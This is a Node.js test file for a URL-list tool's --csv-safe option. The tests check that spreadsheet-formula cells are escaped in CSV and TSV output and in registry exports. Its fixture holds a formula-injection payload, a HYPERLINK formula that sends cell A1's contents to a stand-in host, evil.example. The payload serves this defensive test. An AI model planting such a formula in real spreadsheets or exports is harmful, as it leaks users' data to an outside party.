import assert from 'node:assert/strict'
import { join } from 'node:path'
import { test } from 'node:test'
import { formatRow } from '@canonist/lists/internal/io/cell'
import { CSV } from '@canonist/lists/internal/io/table-dialect'
import { openRegistry } from '@canonist/registry/internal/registry/open-registry'
import { canonist, temporaryFolder } from '@canonist/test-support/command.ts'

const folder = temporaryFolder()
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'

const CELLS = [
  { cell: FORMULA, csv: `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"` },
  { cell: '+1', csv: "'+1" },
  { cell: '-1', csv: "'-1" },
  { cell: '@SUM(1)', csv: "'@SUM(1)" },
  { cell: '\tx', csv: "'\tx" },
  { cell: '\rx', csv: `"'\rx"` },
  { cell: 'https://e.com/?a=-1', csv: 'https://e.com/?a=-1' },
  { cell: 'https://e.com/;=1+1', csv: "https://e.com/;'=1+1" },
  { cell: 'https://e.com/;v=1;-2', csv: "https://e.com/;v=1;'-2" },
  { cell: 'a\t=1', csv: "a\t'=1" },
  { cell: ' =1, a space is text to a spreadsheet', csv: `" =1, a space is text to a spreadsheet"` },
  { cell: '', csv: '' },
]
for (const { cell, csv } of CELLS) {
  test(`${JSON.stringify(cell)} is ${JSON.stringify(csv)} with isSafe`, () => {
    assert.equal(formatRow([cell], { ...CSV, isSafe: true }), csv)
    assert.equal(formatRow([cell], CSV).includes("'"), false)
  })
}

const table = folder.file('table.csv', `link,=head\nhttps://e.com/?utm_source=x,"=1+1"\nhttps://e.com/b,-5\n`)
const lines = folder.file('lines.txt', `${FORMULA}\nhttps://e.com/\n`)

const COMMANDS = [
  {
    args: ['normalize', '--format', 'csv', '--column', 'link', table],
    plain: /^link,=head\nhttps:\/\/e\.com\/,"=1\+1"\n/,
    safe: /^link,'=head\nhttps:\/\/e\.com\/,'=1\+1\nhttps:\/\/e\.com\/b,'-5\n$/,
  },
  { args: ['dedupe', '--format', 'csv', '--column', 'link', table], plain: /,"=1\+1"\n/, safe: /,'=1\+1\n/ },
  { args: ['normalize', '--format', 'csv', lines], plain: /\n"=HYPERLINK/, safe: /\n"'=HYPERLINK/ },
  { args: ['normalize', '--format', 'tsv', '--jobs', '2', lines], plain: /\n=HYPERLINK/, safe: /\n'=HYPERLINK/ },
]
for (const { args, plain, safe } of COMMANDS) {
  test(`canonist ${args.slice(0, 3).join(' ')}: cells stay as they are, and are safe with --csv-safe`, async () => {
    assert.match((await canonist(args)).stdout, plain)
    assert.match((await canonist([...args, '--csv-safe'])).stdout, safe)
  })
}

test('canonist export: cells stay as they are, and are safe with --csv-safe', async () => {
  const db = join(folder.path, 'registry.db')
  const registry = await openRegistry(db)
  await registry.ingest([FORMULA])
  await registry.close()
  const args = ['export', 'rejected', '--format', 'csv', '--db', db]
  assert.match((await canonist(args)).stdout, /^rawUrl,.*\n"=HYPERLINK/)
  assert.match((await canonist([...args, '--csv-safe'])).stdout, /^rawUrl,.*\n"'=HYPERLINK/)
})

for (const args of [
  ['export', 'pages'],
  ['normalize', lines],
  ['dedupe', '--format', 'jsonl', lines],
]) {
  test(`canonist ${args[0]} refuses --csv-safe where no table is written`, async () => {
    const { code, stdout, stderr } = await canonist([...args, '--csv-safe'])
    assert.deepEqual([code, stdout], [2, ''])
    assert.match(stderr, /--csv-safe is for tables, not for \w+\. Add --format csv\./)
  })
}
